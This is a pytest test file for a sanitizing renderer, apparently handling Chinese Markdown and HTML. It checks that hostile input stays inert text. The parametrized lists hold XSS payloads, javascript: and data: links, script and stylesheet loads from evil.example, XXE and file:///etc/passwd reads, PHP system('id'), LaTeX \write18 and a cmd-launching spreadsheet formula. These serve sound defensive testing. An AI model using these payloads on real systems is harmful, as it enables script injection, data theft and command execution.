"""Active content: whatever a source tries to run, load or lead to is text, or nothing."""

from __future__ import annotations

import pytest
from hostile import Hostile, behaves

AS_TEXT = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><use href='#x'/></svg>",
    "<iframe srcdoc='<b>甲</b>'></iframe>",
    "<object data='file:///etc/passwd'></object>",
    "<embed src=x.swf>",
    "<form action='//evil.example'><input name=甲></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=attachment href='file:///etc/passwd'>",
    "<style>@import '//evil.example';*{display:none}</style>",
    "<div style='background:url(//evil.example)'>甲</div>",
    "<a href='javascript:alert(1)'>甲</a>",
    "<math><mtext></mtext><mglyph><style></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video src=x autoplay onplay=alert(1)></video>",
    "<details open ontoggle=alert(1)>甲</details>",
    "<?php system('id'); ?>",
    "<?xml-stylesheet href='//evil.example'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</body></html><script>alert(1)</script>",
    "</title></textarea></style></script><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{: onclick=alert(1) .甲 }",
    "{#甲 onclick=alert(1)}",
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{# 注 #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "@import url(//evil.example)",
    "\\input{/etc/passwd} \\write18{id}",
    "=HYPERLINK(0) +cmd|' /C calc'!A0",
)

LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\u00a0javascript:alert(1)",
    "java\u00adscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "FILE://c:/windows/win.ini",
    "blob:https://evil.example/1",
    "about:blank",
    "view-source:http://a.cn",
    "ms-word:ofe|u|http://a.cn/x.docx",
    "jar:http://a.cn!/x",
    "ftp://a.cn/x",
    "tel:110",
    "\\\\evil.example\\share",
    "http://",
    "http://a.cn:99999/",
    "http://[::1",
    "http://user:pass@a.cn@b.cn/",
    "//evil.example/x",
    "../../../etc/passwd",
    "?x=<script>",
    '#"onclick=alert(1)',
)


@pytest.mark.parametrize("text", AS_TEXT)
def test_it_is_text_in_a_paragraph(text: str) -> None:
    behaves(Hostile(text, f"前面的话{text}后面的话。\n", shows=(f"前面的话{text}后面的话。",)))


@pytest.mark.parametrize("text", AS_TEXT)
def test_it_is_text_in_a_title_and_in_a_cell(text: str) -> None:
    titled = (
        f"## {text}栏目\n\n### {text}篇目\n\n正文一段。\n\n| 甲 | 乙 |\n|---|---|\n| {text.replace('|', '')} | 丙 |\n"
    )
    behaves(Hostile(text, titled, shows=("栏目", "篇目", "正文一段。", "丙")))


@pytest.mark.parametrize("target", LINKS)
def test_it_leads_nowhere(target: str) -> None:
    behaves(Hostile(target, f"前面[甲地](<{target}>)后面。\n\n![图说]({target})\n", shows=("前面甲地后面。", "图说")))


@pytest.mark.parametrize("target", LINKS)
def test_it_leads_nowhere_from_a_reference_or_an_autolink(target: str) -> None:
    behaves(Hostile(target, f"前面[甲地][1]与<{target}>后面。\n\n[1]: <{target}>\n", shows=("甲地", "后面")))


@pytest.mark.parametrize(
    "cell",
    [
        "<script>alert(1)</script>甲",
        "<img src=x onerror=alert(1)>甲",
        "<a href='javascript:alert(1)'>甲</a>",
        "<iframe src='//evil.example'></iframe>甲",
        "<style>*{color:red}</style>甲",
        "<b onclick='alert(1)'>甲</b>",
        "<svg><script>alert(1)</script></svg>甲",
        "<object data='file:///etc/passwd'>甲</object>",
        "<input value='甲'>甲",
        "<td>甲<td>",
    ],
)
def test_a_cell_of_an_html_table_is_only_its_words(cell: str) -> None:
    table = f"<table><tr><td>名</td><td>值</td></tr><tr><td>一</td><td>{cell}</td></tr></table>\n"
    behaves(Hostile(cell, f"前文一段。\n\n{table}\n后文一段。\n", shows=("一", "后文一段。"), hides=("alert(1)",)))
